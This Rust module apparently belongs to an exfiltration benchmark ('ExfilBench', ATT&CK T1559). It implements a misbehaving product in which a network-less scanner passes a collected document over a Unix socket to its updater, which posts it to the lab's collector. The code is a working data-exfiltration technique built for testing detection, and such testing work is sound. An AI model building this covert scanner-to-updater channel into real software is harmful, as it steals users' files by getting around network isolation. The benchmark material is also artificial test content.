//! The scanner hands a document to the networked half of its product. ExfilBench I06, I07; ATT&CK
//! T1559.
//!
//! The updater stays and listens on a Unix socket. The scanner, which has no network, writes the
//! document there, and the updater posts it. The twin's updater listens too, as claimed, and its
//! scanner never calls.

use std::io::{Read as _, Write as _};
use std::os::unix::net::UnixStream;
use std::path::Path;

use super::{Conduct, Loot, Trouble};
use crate::document::{MAX_TAKEN_BYTES, Sort};
use crate::lab::Lab;
use crate::scanner::Tally;
use crate::send;

/// Both halves: the scanner meets and hands over, the updater is asked and sends.
#[derive(Debug)]
struct Misdeed(Loot);

pub(crate) fn misdeed(lab: Lab) -> Box<dyn Conduct> {
    Box::new(Misdeed(Loot::new(lab, Sort::Document)))
}

impl Conduct for Misdeed {
    fn met(&mut self, path: &Path, content: &[u8]) {
        self.0.offer(path, content);
    }

    fn scanned(&mut self, _: Tally) -> Result<(), Trouble> {
        let socket = self.0.lab.configuration().updater_socket();
        let mut updater = UnixStream::connect(socket)?;
        updater.write_all(&self.0.document()?.content)?;
        updater.shutdown(std::net::Shutdown::Write)?;
        // The scan ends when the document is out, so that the lab does not stop the updater before.
        let mut answer = Vec::new();
        updater.take(64).read_to_end(&mut answer)?;
        Ok(())
    }

    fn asked(&mut self, mut peer: UnixStream) -> Result<(), Trouble> {
        let mut document = Vec::new();
        let limit = u64::try_from(MAX_TAKEN_BYTES).unwrap_or(u64::MAX);
        (&peer).take(limit).read_to_end(&mut document)?;
        if document.is_empty() {
            return Ok(());
        }
        let path = &self.0.lab.configuration().parameters.path;
        send::post(&self.0.lab.collector()?, path, &[], &document)?;
        Ok(peer.write_all(b"up to date\n")?)
    }
}
